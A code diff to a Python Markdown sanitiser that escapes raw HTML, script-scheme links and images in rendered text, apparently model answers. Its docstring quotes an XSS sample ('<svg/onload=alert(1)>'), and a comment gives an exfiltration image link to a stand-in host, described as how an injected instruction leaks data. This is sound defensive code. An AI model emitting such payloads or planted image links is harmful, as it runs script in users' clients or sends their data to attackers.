@@ -10,7 +10,8 @@ so what a CommonMark renderer with HTML enabled would pass through is escaped, a
 browsers take for a tag although CommonMark does not ("<svg/onload=alert(1)>"). Code is left alone: fenced and
 indented code blocks (found by markdown-it-py's block parser) and inline code spans, where "<b>" is already shown as
 text. Autolinks ("<https://example.org>") are not HTML and stay. Rendering the escaped text gives the same visible
-text as rendering the original with HTML disabled.
+text as rendering the original with HTML disabled. Two Markdown constructs are made text too: a link whose destination
+runs script ("javascript:", "vbscript:", "data:") and an image (a client would fetch its address unasked).
 """
 
 from __future__ import annotations
@@ -50,7 +51,7 @@ def escape_raw_html(text: str) -> str:
     Returns:
         The same text when it holds no raw HTML; otherwise each tag, comment or declaration escaped in place.
     """
-    if "<" not in text and "](" not in text:
+    if "<" not in text and "](" not in text and "![" not in text:
         return text
     code = _code_lines(text)
     out: list[str] = []
@@ -78,10 +79,20 @@ def escape_raw_html(text: str) -> str:
 _SCRIPT_LINK = re.compile(r"\]\((?=\s*<?\s*(?:javascript|vbscript|data)\s*:)", re.I)
 
 
+#: A Markdown image ("![pixel](https://evil.example/leak?d=secret)", or reference-style "![x][ref]"): a client
+#: rendering the answer would fetch it unasked, which carries whatever its address holds to that server (a planted
+#: image is the classic way an injected instruction leaks data: the s44 breaker). Its "[" is escaped: every renderer
+#: shows the text.
+_IMAGE = re.compile(r"!\[")
+
+
 def _escape_prose(text: str) -> str:
     if "](" in text:
         text = _SCRIPT_LINK.sub(r"]\\(", text)
     spans = [(m.start(), m.end()) for m in _CODE_SPAN.finditer(text)]
+    if "![" in text:  # outside code spans, where "![" is shown as written
+        text = _IMAGE.sub(lambda m: m.group(0) if any(a <= m.start() < b for a, b in spans) else "!\\[", text)
+        spans = [(m.start(), m.end()) for m in _CODE_SPAN.finditer(text)]
     out, pos, k = [], 0, 0
     i = text.find("<")
     while i >= 0:
